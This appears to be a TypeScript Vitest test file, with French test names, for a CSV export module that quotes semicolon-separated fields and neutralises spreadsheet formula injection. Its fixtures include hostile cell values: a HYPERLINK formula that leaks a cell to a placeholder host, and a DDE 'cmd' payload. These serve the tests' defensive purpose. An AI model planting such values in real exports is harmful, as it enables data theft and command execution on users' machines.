import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvCell, csvField, csvLine, csvRecord } from './csv.ts';

describe('CSV', () => {
  it('laisse tels quels les champs ordinaires, accents compris', () => {
    expect(csvLine(['12', 'Hélène', 'SAINT-ANDRÉ-LES-VERGERS', ''])).toBe('12;Hélène;SAINT-ANDRÉ-LES-VERGERS;\r\n');
  });

  it('met entre guillemets un champ contenant « ; », un guillemet ou un retour à la ligne, guillemets doublés', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('dit "bonjour"')).toBe('"dit ""bonjour"""');
    expect(csvField('ligne 1\r\nligne 2')).toBe('"ligne 1\r\nligne 2"');
    expect(csvField('fin\n')).toBe('"fin\n"');
  });

  it('neutralise une cellule de texte qu’un tableur exécuterait (=, +, -, @, tabulation, retour chariot)', () => {
    expect(csvCell('=HYPERLINK("http://x.invalid?"&A1;"Cliquez")')).toBe(
      '\'=HYPERLINK("http://x.invalid?"&A1;"Cliquez")',
    );
    expect(csvCell('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe("'\r=1+1");
    // Quoting still applies after the prefix: the cell stays one field, its text readable.
    expect(csvLine([csvCell('=1;2')])).toBe('"\'=1;2"\r\n');
  });

  it('laisse intacts le texte ordinaire, les nombres (négatifs compris), les dates et les booléens', () => {
    expect(csvCell('12 rue de la Paix')).toBe('12 rue de la Paix');
    expect(csvCell('Marie-Hélène')).toBe('Marie-Hélène');
    expect(csvCell('06 12 34 56 78')).toBe('06 12 34 56 78');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(true)).toBe('Oui');
    expect(csvCell(null)).toBe('');
    expect(csvCell(new Date('2026-01-15T09:30:00Z'))).toBe('15/01/2026 10:30:00');
  });

  it('écrit la ligne d’un enregistrement comme celle de ses cellules', () => {
    type Row = Record<string, unknown>;
    const row: Row = { id: 7, nom: 'dit "non"; vraiment', formule: '=1+1', vide: null, oui: true, date: new Date(0) };
    const columns: CsvColumn<Row>[] = Object.keys(row).map((k) => ({ header: k, value: (r) => r[k] }));
    expect(csvRecord(columns, row)).toBe(csvLine(columns.map((c) => csvCell(c.value(row)))));
    expect(csvRecord(columns, row)).toBe('7;"dit ""non""; vraiment";\'=1+1;;Oui;01/01/1970 01:00:00\r\n');
  });
});
